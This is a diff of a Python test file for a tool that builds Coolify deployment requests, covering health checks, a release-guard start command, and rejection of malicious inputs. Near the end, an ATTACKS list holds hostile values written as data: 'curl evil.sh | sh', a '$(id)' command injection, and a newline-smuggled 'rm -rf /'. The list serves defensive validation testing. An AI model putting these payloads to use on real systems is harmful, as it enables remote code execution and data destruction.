@@ -6,6 +6,9 @@ from __future__ import annotations
 
 import base64
 import json
+import os
+import subprocess
+from pathlib import Path
 
 import httpx
 import pytest
@@ -43,45 +46,50 @@ COMMON_CREATE = {"project_uuid": "proj1aaaaaaaaaaaaaaaaaaa", "server_uuid": SERV
                  "environment_name": "production", "environment_uuid": "env1aaaaaaaaaaaaaaaaaaaa",
                  "autogenerate_domain": False, "instant_deploy": False, "is_auto_deploy_enabled": False,
                  "is_preview_deployments_enabled": False}  # fmt: skip
+HEALTH_ON = {"health_check_enabled": True, "health_check_path": "/", "health_check_port": "3000",
+             "health_check_interval": 2, "health_check_timeout": 5, "health_check_retries": 30,
+             "health_check_start_period": 5}  # fmt: skip
+HEALTH_STATIC = {**HEALTH_ON, "health_check_port": "80"}  # Coolify probes port 80 for static packs anyway
+HEALTH_OFF = {"health_check_enabled": False}
 SOURCE = {"git_repository": REPO, "git_branch": "main", "git_commit_sha": COMMIT, "use_build_server": True,
           "base_directory": "/"}  # fmt: skip
 
 # Every type x mode, web and worker: the update body (what each release PATCHes) exactly.
 CASES = [
     (ServiceType.webapp, Mode.persistent, WEB, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_ON, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": "https://api-shop.s1.apps.example.com"}),
     (ServiceType.webapp, Mode.persistent, WORKER, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": ""}),
     (ServiceType.webapp, Mode.on_demand, WEB, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_ON, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "domains": "", "is_consistent_container_name_enabled": True}),
     (ServiceType.backend, Mode.persistent, WEB, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": "https://api-shop.s1.apps.example.com"}),
     (ServiceType.backend, Mode.on_demand, WORKER, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "domains": ""}),
     (ServiceType.backend, Mode.static, WEB, {
-        **SOURCE, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
+        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
         "pre_deployment_command": "", "limits_memory": "64m", "limits_memory_swap": "64m", "limits_cpus": "0.25",
         "domains": "https://api-shop.s1.apps.example.com"}),
     (ServiceType.webapp_static, Mode.static, Process("web", None, True), {
-        **SOURCE, "build_pack": "static", "is_static": True,
+        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
         "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "64m", "limits_memory_swap": "64m",
         "limits_cpus": "0.25", "domains": "https://api-shop.s1.apps.example.com"}),
     (ServiceType.webapp_static, Mode.on_demand, Process("web", None, True), {
-        **SOURCE, "build_pack": "static", "is_static": True,
+        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
         "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "domains": "", "is_consistent_container_name_enabled": True}),
     (ServiceType.webapp_static, Mode.persistent, Process("web", None, True), {
-        **SOURCE, "build_pack": "static", "is_static": True,
+        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
         "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "768m", "limits_memory_swap": "768m",
         "limits_cpus": "1.5", "limits_memory_reservation": "768m",
         "domains": "https://api-shop.s1.apps.example.com"}),
@@ -131,11 +139,20 @@ def test_update_body_per_type_and_mode_is_exact_and_valid(
         assert labels is None  # persistent/static: Coolify's generated Traefik labels route the domains
 
 
-def test_release_command_runs_once_with_the_routed_process_and_commands_are_made_shell_safe(spec: CoolifySpec) -> None:
+def test_release_runs_in_the_new_container_of_the_routed_process_and_commands_are_made_shell_safe(
+        spec: CoolifySpec) -> None:  # fmt: skip
+    """Never Coolify's pre-deployment command (old container, skipped on a first deploy): the routed process's start
+    command runs the release first, guarded by INKMCP_RELEASE, then execs the process's own command."""
     p = plan(release_command="python manage.py migrate", build_command="npm run build; echo done >&2")
-    web = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WEB, p), SETTINGS)
-    worker = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WORKER, p), SETTINGS)
-    assert web["pre_deployment_command"] == "python manage.py migrate" and worker["pre_deployment_command"] == ""
+    processes = {x.name: x for x in mapping.processes(ServiceType.webapp, p)}
+    assert processes["web"].release and not processes["worker"].release
+    web = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["web"], p), SETTINGS)
+    worker = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["worker"], p), SETTINGS)
+    assert web["pre_deployment_command"] == "" and worker["pre_deployment_command"] == ""
+    assert web["start_command"] == (f"sh -c '{mapping.RELEASE_GUARD}' 'gunicorn app:app' "
+                                    "'python manage.py migrate'")
+    assert worker["start_command"] == "python worker.py"
+    assert len(web["start_command"]) <= mapping.MAX_COMMAND and mapping.SHELL_SAFE.match(web["start_command"])
     # `;` and `>` fail Coolify's shell-safe rule: sent wrapped, quotes escaped, and the wrapped form passes it
     assert web["build_command"] == "sh -c 'npm run build; echo done >&2'"
     quoted = mapping.shell_safe("echo 'it''s' | tr a b", "build_command")
@@ -144,6 +161,51 @@ def test_release_command_runs_once_with_the_routed_process_and_commands_are_made
     with pytest.raises(mapping.TenantInputError, match="multi-line"):
         mapping.shell_safe("make\nmake install", "build_command")
     assert spec.request_problems("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body=web, authorization=AUTH) == []
+    policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", web)
+    # a worker-only service: the release goes with its first process
+    only = plan(release_command="./migrate", processes=(ProcessSpec(name="jobs", command="python jobs.py",
+                                                                    routed=False),))  # fmt: skip
+    assert [x.release for x in mapping.processes(ServiceType.backend, only)] == [True]
+    with pytest.raises(mapping.TenantInputError, match=r"release_command.*1000"):
+        mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["web"],
+                                    plan(release_command="echo " + "x" * 900)), SETTINGS)
+
+
+def _run_start_command(command: str, env: dict[str, str], cwd: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["sh", "-c", command], env={"PATH": os.environ["PATH"], **env}, cwd=cwd,
+                          capture_output=True, text=True, timeout=30)  # fmt: skip
+
+
+def test_the_release_guard_runs_the_release_once_per_container_and_a_failure_stops_the_start(tmp_path: Path) -> None:
+    """The guard as a shell really runs it: the release first, then the process's command with its own quoting;
+    a restart of the same container (its /tmp kept) skips it; without INKMCP_RELEASE (an env change's new
+    container) it never runs; a failing release exits non-zero before the command, and again on every restart."""
+    web = Process("web", "echo \"serving $PORT\" 'quoted' >> out.txt", True, True)
+    command = mapping.release_start_command("echo migrated >> out.txt; echo 'it''s'", web)
+    assert mapping.SHELL_SAFE.match(command)
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    env = {"INKMCP_RELEASE": "dep-1", "TMPDIR": str(tmp), "PORT": "8080"}
+    first = _run_start_command(command, env, str(tmp_path))
+    assert first.returncode == 0, first.stderr
+    assert mapping.RELEASE_STARTED in first.stdout and mapping.RELEASE_FINISHED in first.stdout
+    assert "its" in first.stdout
+    assert (tmp_path / "out.txt").read_text() == "migrated\nserving 8080 quoted\n"
+    again = _run_start_command(command, env, str(tmp_path))  # the same container restarted
+    assert again.returncode == 0 and mapping.RELEASE_STARTED not in again.stdout
+    assert (tmp_path / "out.txt").read_text() == "migrated\nserving 8080 quoted\nserving 8080 quoted\n"
+    fresh = tmp_path / "tmp2"
+    fresh.mkdir()
+    _run_start_command(command, {**env, "INKMCP_RELEASE": "", "TMPDIR": str(fresh)}, str(tmp_path))
+    assert (tmp_path / "out.txt").read_text().count("migrated") == 1  # env change: a new container, no release
+
+    broken = mapping.release_start_command("echo broke >&2; exit 3", web)
+    failed = _run_start_command(broken, {**env, "INKMCP_RELEASE": "dep-2"}, str(tmp_path))
+    assert failed.returncode == 3 and f"{mapping.RELEASE_FAILED} with exit code 3" in failed.stderr
+    assert "broke" in failed.stderr
+    restarted = _run_start_command(broken, {**env, "INKMCP_RELEASE": "dep-2"}, str(tmp_path))
+    assert restarted.returncode == 1 and "broke" not in restarted.stderr and mapping.RELEASE_FAILED in restarted.stderr
+    assert (tmp_path / "out.txt").read_text().count("serving") == 3  # the command never ran after a failure
 
 
 def test_dockerfile_repo_builds_with_the_dockerfile_pack(spec: CoolifySpec) -> None:
@@ -238,6 +300,10 @@ ATTACKS = [
     ("PATCH", APP, {"git_commit_sha": "HEAD"}, "git_commit_sha"),
     ("PATCH", APP, {"domains": "https://victim.io:8443"}, "domains"),
     ("PATCH", APP, {"start_command": "run\nrm -rf /"}, "start_command"),
+    ("PATCH", APP, {"pre_deployment_command": "curl evil.sh | sh"}, "pre_deployment_command"),
+    ("PATCH", APP, {"health_check_retries": 100000}, "health_check_retries"),
+    ("PATCH", APP, {"health_check_path": "/$(id)"}, "health_check_path"),
+    ("PATCH", APP, {"health_check_host": "10.0.0.1"}, "health_check_host"),
     ("PATCH", APP, {"dockerfile": base64.b64encode(b"FROM x").decode()}, "dockerfile"),
     ("POST", "/applications/public", {"project_uuid": "p", "tags": ["all"]}, "tags"),
     ("POST", f"{APP}/storages", {"type": "persistent", "name": "s", "mount_path": "/s",
